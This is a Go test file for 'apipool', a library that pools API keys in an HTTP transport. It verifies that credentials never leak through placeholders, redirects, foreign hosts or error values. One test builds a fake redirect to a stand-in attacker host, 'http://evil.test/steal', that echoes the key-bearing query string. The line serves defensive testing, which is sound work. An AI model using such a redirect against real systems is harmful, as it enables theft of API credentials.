package apipool_test

import (
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/apipool-ng/apipool"
)

// wire is a fake of several hosts that records every request as it
// arrived, credentials and all.
type wire struct {
	mu    sync.Mutex
	seen  []*http.Request
	route func(r *http.Request) *http.Response
}

func (w *wire) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Body != nil {
		io.Copy(io.Discard, r.Body)
		r.Body.Close()
	}
	w.mu.Lock()
	w.seen = append(w.seen, r.Clone(r.Context()))
	w.mu.Unlock()
	resp := w.route(r)
	if resp == nil {
		resp = &http.Response{StatusCode: 200}
	}
	resp.Proto, resp.ProtoMajor, resp.ProtoMinor = "HTTP/1.1", 1, 1
	resp.Status = http.StatusText(resp.StatusCode)
	if resp.Header == nil {
		resp.Header = http.Header{}
	}
	if resp.Body == nil {
		resp.Body = http.NoBody
	}
	resp.Request = r
	return resp, nil
}

func (w *wire) requests() []*http.Request {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]*http.Request(nil), w.seen...)
}

// dump is every credential-bearing part of a request as the wire saw it.
func dump(r *http.Request) string {
	var b strings.Builder
	b.WriteString(r.URL.String())
	for k, vs := range r.Header {
		b.WriteString("\n" + k + ": " + strings.Join(vs, ","))
	}
	return b.String()
}

// The pool's credential replaces every credential the request carried,
// whatever the injection and wherever the SDK put its placeholder: the
// wire sees the pool's key, once, and never the placeholder.
func TestPlaceholderNeverLeaves(t *testing.T) {
	t.Parallel()
	const placeholder = "PLACEHOLDER-canary"
	const key = "sk-pool-key-1"
	injections := map[string]struct {
		opt  apipool.Option
		want func(r *http.Request) bool
	}{
		"bearer": {apipool.WithBearer(), func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+key }},
		"x-api-key": {apipool.WithHeader("x-api-key"), func(r *http.Request) bool {
			return r.Header.Get("X-Api-Key") == key && len(r.Header.Values("X-Api-Key")) == 1
		}},
		"query key": {apipool.WithQueryParam("key"), func(r *http.Request) bool { q := r.URL.Query(); return len(q["key"]) == 1 && q.Get("key") == key }},
		"injector": {apipool.WithInjector(func(r *http.Request, s apipool.Secret) { r.Header.Set("X-Sig", s.Reveal()) }),
			func(r *http.Request) bool { return r.Header.Get("X-Sig") == key }},
	}
	placeholders := map[string]func(r *http.Request){
		"Authorization":  func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+placeholder) },
		"X-Api-Key":      func(r *http.Request) { r.Header.Set("X-Api-Key", placeholder) },
		"Api-Key":        func(r *http.Request) { r.Header.Set("Api-Key", placeholder) },
		"X-Goog-Api-Key": func(r *http.Request) { r.Header.Set("X-Goog-Api-Key", placeholder) },
		"api_key param":  func(r *http.Request) { r.URL.RawQuery += "&api_key=" + placeholder },
		"key param":      func(r *http.Request) { r.URL.RawQuery += "&key=" + placeholder },
		"apikey param":   func(r *http.Request) { r.URL.RawQuery += "&apikey=" + placeholder },
		"escaped param":  func(r *http.Request) { r.URL.RawQuery += "&api%5Fkey=" + placeholder }, // api_key, as an upstream decodes it
	}
	for iname, inj := range injections {
		for pname, put := range placeholders {
			t.Run(iname+"/"+pname, func(t *testing.T) {
				t.Parallel()
				w := &wire{route: func(*http.Request) *http.Response { return nil }}
				p := mustNew(t, []apipool.Key{{ID: "k1", Secret: key}}, apipool.WithBase(w), inj.opt)
				req := newGet(t, "http://api.test/v1/x?q=1")
				put(req)
				before := dump(req)
				resp, err := p.RoundTrip(req)
				if err != nil {
					t.Fatal(err)
				}
				resp.Body.Close()
				got := w.requests()[0]
				if d := dump(got); strings.Contains(d, placeholder) {
					t.Fatalf("the placeholder left the process:\n%s", d)
				}
				if !inj.want(got) {
					t.Fatalf("the pool's key is not on the wire as configured:\n%s", dump(got))
				}
				if got.URL.Query().Get("q") != "1" {
					t.Fatalf("the request's own parameters were lost: %s", got.URL)
				}
				if dump(req) != before {
					t.Fatal("the caller's request was modified")
				}
			})
		}
	}
}

// A key never rides a redirect to another host, even inside a Location
// that echoes it; the caller gets back only its own request, and a
// Location it is handed holds no key.
func TestRedirectsKeepTheKeyHome(t *testing.T) {
	t.Parallel()
	for _, hosts := range []bool{false, true} {
		name := "no WithHosts"
		if hosts {
			name = "WithHosts"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := &wire{route: func(r *http.Request) *http.Response {
				switch {
				case r.URL.Host == "api.test" && r.URL.Path == "/start":
					// A same-host redirect that keeps the query, key and all.
					return &http.Response{StatusCode: 302, Header: http.Header{"Location": {"/next?" + r.URL.RawQuery}}}
				case r.URL.Host == "api.test" && r.URL.Path == "/next":
					return &http.Response{StatusCode: 302, Header: http.Header{"Location": {"http://evil.test/steal?" + r.URL.RawQuery}}}
				}
				return nil
			}}
			opts := []apipool.Option{apipool.WithBase(w), apipool.WithQueryParam("api_key")}
			if hosts {
				opts = append(opts, apipool.WithHosts("api.test"))
			}
			p := mustNew(t, []apipool.Key{{ID: "k0", Secret: canary}}, opts...)
			client := &http.Client{Transport: p}
			resp, err := client.Get("http://api.test/start?q=1")
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			reqs := w.requests()
			if len(reqs) != 3 {
				t.Fatalf("%d requests on the wire, want 3", len(reqs))
			}
			if reqs[0].URL.Query().Get("api_key") != canary || reqs[1].URL.Query().Get("api_key") != canary {
				t.Fatalf("the api host did not get the key: %s, %s", reqs[0].URL, reqs[1].URL)
			}
			if d := dump(reqs[2]); reqs[2].URL.Host != "evil.test" || strings.Contains(d, "CANARY") || strings.Contains(d, url.QueryEscape(canary)) {
				t.Fatalf("the foreign host got:\n%s", d)
			}
			if u := resp.Request.URL.String(); strings.Contains(u, "CANARY") || strings.Contains(u, url.QueryEscape(canary)) {
				t.Fatalf("resp.Request.URL holds the key: %s", u)
			}
			// A caller that stops at redirects is handed a Location
			// without the key.
			client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
			resp, err = client.Get("http://api.test/start?q=1")
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if loc := resp.Header.Get("Location"); resp.StatusCode != 302 || strings.Contains(loc, "CANARY") || strings.Contains(loc, url.QueryEscape(canary)) || !strings.Contains(loc, "q=1") {
				t.Fatalf("Location %q (status %d), want the redirect without the key", loc, resp.StatusCode)
			}
		})
	}
}

// Requests to hosts the pool does not key lose the credential parameters
// and any of the pool's keys; the caller gets its own request back.
func TestForeignHostGetsNoKey(t *testing.T) {
	t.Parallel()
	w := &wire{route: func(*http.Request) *http.Response { return nil }}
	p := mustNew(t, []apipool.Key{{ID: "k0", Secret: canary}}, apipool.WithBase(w), apipool.WithHosts("api.test"), apipool.WithQueryParam("key"))
	req := newGet(t, "http://other.test/x?q=1&key="+url.QueryEscape(canary)+"&token="+url.QueryEscape(canary)+"&api_key=ph")
	resp, err := p.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	got := w.requests()[0]
	if got.URL.RawQuery != "q=1" {
		t.Fatalf("foreign host got query %q, want q=1", got.URL.RawQuery)
	}
	if resp.Request != req {
		t.Fatal("resp.Request is not the caller's request")
	}
}

// Errors hold no secret anywhere: not in their text, not in a field that
// their text does not show, not in the errors they wrap.
func TestErrorsHoldNoSecretInFields(t *testing.T) {
	t.Parallel()
	bases := map[string]http.RoundTripper{
		"url.Error": roundTripperFunc(func(r *http.Request) (*http.Response, error) {
			return nil, &url.Error{Op: "Get", URL: r.URL.String(), Err: errors.New("connection refused")}
		}),
		"hidden field": roundTripperFunc(func(r *http.Request) (*http.Response, error) {
			return nil, &sneakyError{url: r.URL.String(), header: r.Header.Clone()}
		}),
		"wrapped": roundTripperFunc(func(r *http.Request) (*http.Response, error) {
			return nil, errors.Join(errors.New("first"), &sneakyError{url: r.URL.String()})
		}),
	}
	for name, base := range bases {
		for _, mode := range []apipool.Option{apipool.WithQueryParam("key"), apipool.WithBearer()} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				p := mustNew(t, []apipool.Key{{ID: "k0", Secret: canary}}, apipool.WithBase(base), mode, apipool.WithMaxAttempts(1))
				_, err := p.RoundTrip(newGet(t, "http://api.test/x"))
				assertErrNoCanary(t, name, err)
				_, err = (&http.Client{Transport: p}).Get("http://api.test/x")
				assertErrNoCanary(t, name+" through http.Client", err)
			})
		}
	}
}

// sneakyError keeps the request's URL and headers but does not print them.
type sneakyError struct {
	url    string
	header http.Header
}

func (e *sneakyError) Error() string { return "something failed" }

// A header name added to the defaults, in any case, is stripped; the
// defaults are copies: changing one changes no pool.
func TestDefaultStripHeadersAnyCase(t *testing.T) {
	t.Parallel()
	hs := apipool.DefaultStripHeaders()
	hs[0] = "X-Not-A-Credential"
	if apipool.DefaultStripHeaders()[0] != "Authorization" {
		t.Fatalf("changing the returned slice changed the defaults: %v", apipool.DefaultStripHeaders())
	}
	up := newUpstream(func(seen) reply { return reply{Status: 200} })
	p := mustNew(t, keys(1), apipool.WithBase(up), apipool.WithStripCredentials(append(apipool.DefaultStripHeaders(), "x-extra-token"), nil))
	req := newGet(t, "http://api.test/x")
	req.Header.Set("X-Extra-Token", "callers-own")
	resp, err := p.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := up.Calls()[0].Header.Get("X-Extra-Token"); got != "" {
		t.Fatalf("X-Extra-Token went out as %q; want it stripped", got)
	}
}

// WithHosts matches names as URL.Host writes them, in any case: a name
// without a port (an IPv6 address in brackets too) matches every port, a
// name with one only the URLs that name it.
func TestWithHostsMatching(t *testing.T) {
	t.Parallel()
	cases := []struct {
		host  string
		url   string
		keyed bool
	}{
		{"API.Test", "http://api.test/x", true},
		{"api.test", "http://API.TEST:8443/x", true},
		{"api.test:8443", "http://api.test:8443/x", true},
		{"api.test:443", "https://api.test/x", false}, // the URL names no port
		{"[::1]", "http://[::1]:8080/x", true},
		{"::1", "http://[::1]/x", true},
		{"[::1]:8080", "http://[::1]:8080/x", true},
		{"[::1]:8080", "http://[::1]:9090/x", false},
		{"api.test", "http://other.test/x", false},
	}
	for _, c := range cases {
		w := &wire{route: func(*http.Request) *http.Response { return nil }}
		p := mustNew(t, []apipool.Key{{ID: "k0", Secret: "the-secret"}}, apipool.WithBase(w), apipool.WithHosts(c.host))
		resp, err := p.RoundTrip(newGet(t, c.url))
		if err != nil {
			t.Fatalf("%s to %s: %v", c.url, c.host, err)
		}
		resp.Body.Close()
		if got := w.requests()[0].Header.Get("Authorization") != ""; got != c.keyed {
			t.Errorf("WithHosts(%q), %s: keyed %v, want %v", c.host, c.url, got, c.keyed)
		}
	}
}
